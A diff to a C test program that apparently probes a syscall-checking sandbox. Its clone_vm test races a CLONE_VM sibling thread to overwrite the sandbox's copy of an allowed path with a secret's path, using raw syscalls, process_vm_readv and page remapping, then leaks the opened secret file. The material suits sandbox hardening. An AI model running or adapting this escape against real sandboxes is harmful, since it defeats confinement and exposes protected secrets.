@@ -26,6 +26,7 @@
 #include <sys/mman.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/uio.h>
 #include <sys/wait.h>
 #include <sys/xattr.h>
 #include <time.h>
@@ -254,67 +255,120 @@ static void proc_cwd_race(void) {
     printf("proc_cwd_race opened=%ld refused=%ld\n", opened, refused);
 }
 
-/* A clone(CLONE_VM) sibling overwrites the copy of the path the agent wrote below the
- * caller's stack pointer with the secret's path, while the caller opens an allowed file. */
+/* A clone(CLONE_VM) sibling overwrites the agent's copy of the path with the secret's
+ * path, while the caller opens (and chmods) an allowed file. The copy's address is where
+ * the agent pointed the call: x86_64 keeps the argument registers across a syscall, so
+ * the raw syscalls below read it back from rdi/rsi. If the copy cannot be written, the
+ * program tries to make it writable (mprotect, madvise, munmap, mmap MAP_FIXED, mremap)
+ * and the sibling writes it through the kernel (read() from a pipe into it). */
 static volatile char *copy_at[2];
+static volatile int copy_writable;
+static int copy_pipe[2];
 
-static __attribute__((noinline)) int open_allowed(void) {
-    return open(allowed_file, O_RDONLY);
+static long raw_open(const char *path, long *copy) {
+    register long rdi asm("rdi") = (long)path;
+    register long rsi asm("rsi") = O_RDONLY;
+    long ret;
+    asm volatile("syscall"
+                 : "=a"(ret), "+r"(rdi), "+r"(rsi)
+                 : "a"((long)SYS_open)
+                 : "rcx", "r11", "rdx", "r10", "r8", "r9", "memory");
+    *copy = rsi; /* open runs as openat2(AT_FDCWD, copy, how, size) */
+    if (*copy == O_RDONLY) *copy = rdi;
+    return ret;
 }
 
-static __attribute__((noinline)) int chmod_allowed(void) {
-    return chmod(allowed_file, 0604);
+static long raw_chmod(const char *path, long *copy) {
+    register long rdi asm("rdi") = (long)path;
+    register long rsi asm("rsi") = 0604;
+    long ret;
+    asm volatile("syscall"
+                 : "=a"(ret), "+r"(rdi), "+r"(rsi)
+                 : "a"((long)SYS_chmod)
+                 : "rcx", "r11", "rdx", "r10", "r8", "r9", "memory");
+    *copy = rdi;
+    return ret;
 }
 
-static __attribute__((noinline)) void clear_below(void) {
-    char here;
-    memset(&here - 65536, 0, 65536 - 512);
+/* The copy's address if the register points at a copy of allowed_file, else 0. */
+static volatile char *a_copy(long address) {
+    if (address == (long)allowed_file || address < 4096) return NULL;
+    char probe[4200];
+    struct iovec local = {probe, strlen(allowed_file) + 1}, remote = {(void *)address, local.iov_len};
+    /* read it through the kernel: an unmapped address is EFAULT, not a crash */
+    if (syscall(SYS_process_vm_readv, getpid(), &local, 1, &remote, 1, 0) != (long)local.iov_len)
+        return NULL;
+    return memcmp(probe, allowed_file, local.iov_len) == 0 ? (volatile char *)address : NULL;
 }
 
-static __attribute__((noinline)) uintptr_t find_copy(void) {
-    char here;
-    /* The agent's copies lie within 64 KiB below this frame; look for the lowest one. */
-    char *low = &here - 65536, *high = &here - 256;
-    size_t length = strlen(allowed_file);
-    for (char *p = low; p < high - length; p++)
-        if (memcmp(p, allowed_file, length + 1) == 0) return (uintptr_t)p;
-    return 0;
+static int writable(volatile char *address) {
+    size_t length = strlen(allowed_file) + 1;
+    if (write(copy_pipe[1], allowed_file, length) != (ssize_t)length) return 0;
+    return read(copy_pipe[0], (char *)address, length) == (ssize_t)length;
+}
+
+static void make_writable(volatile char *address) {
+    char *page = (char *)((uintptr_t)address & ~(uintptr_t)4095);
+    step("clone_vm", "mprotect", mprotect(page, 4096, PROT_READ | PROT_WRITE));
+    step("clone_vm", "madvise_dontneed", madvise(page, 4096, MADV_DONTNEED));
+    void *fixed = mmap(page, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED,
+                       -1, 0);
+    step("clone_vm", "mmap_fixed", fixed == MAP_FAILED ? -1 : 0);
+    char *other = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    void *moved = mremap(other, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED, page);
+    step("clone_vm", "mremap_onto", moved == MAP_FAILED ? -1 : 0);
+    step("clone_vm", "munmap", munmap(page, 4096));
 }
 
 static int sibling(void *unused) {
     (void)unused;
     size_t length = strlen(secret) + 1;
     while (!atomic_load(&stop))
-        for (int i = 0; i < 2; i++)
-            if (copy_at[i]) memcpy((char *)copy_at[i], secret, length);
+        for (int i = 0; i < 2; i++) {
+            if (!copy_at[i]) continue;
+            if (copy_writable) {
+                memcpy((char *)copy_at[i], secret, length);
+            } else if (write(copy_pipe[1], secret, length) == (ssize_t)length &&
+                       read(copy_pipe[0], (char *)copy_at[i], length) < 0) {
+                char drain[4200];
+                read(copy_pipe[0], drain, length); /* EFAULT: the copy stays as checked */
+            }
+        }
     return 0;
 }
 
 static void clone_vm(void) {
-    clear_below();
-    int fd = open_allowed();
+    long address = 0;
+    pipe(copy_pipe);
+    long fd = raw_open(allowed_file, &address);
     if (fd >= 0) close(fd);
-    copy_at[0] = (volatile char *)find_copy();
-    clear_below();
-    chmod_allowed();
-    copy_at[1] = (volatile char *)find_copy();
+    copy_at[0] = a_copy(address);
+    raw_chmod(allowed_file, &address);
+    copy_at[1] = a_copy(address);
     printf("clone_vm copy_found=%d,%d\n", copy_at[0] != 0, copy_at[1] != 0);
     if (!copy_at[0] && !copy_at[1]) return;
+    volatile char *copy = copy_at[0] ? copy_at[0] : copy_at[1];
+    copy_writable = writable(copy);
+    if (!copy_writable) {
+        make_writable(copy);
+        copy_writable = writable(copy);
+    }
+    printf("clone_vm copy_writable=%d\n", copy_writable);
     char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
     pid_t child = clone(sibling, stack + (1 << 16), CLONE_VM | SIGCHLD, NULL);
     struct timespec start;
     clock_gettime(CLOCK_MONOTONIC, &start);
     long opened = 0, refused = 0;
     while (opened + refused < 200000 && elapsed(&start) < seconds) {
-        fd = open_allowed();
+        fd = raw_open(allowed_file, &address);
         if (fd >= 0) {
-            leak(fd);
-            close(fd);
+            leak((int)fd);
+            close((int)fd);
             opened++;
         } else {
             refused++;
         }
-        chmod_allowed();
+        raw_chmod(allowed_file, &address);
     }
     atomic_store(&stop, 1);
     waitpid(child, NULL, 0);
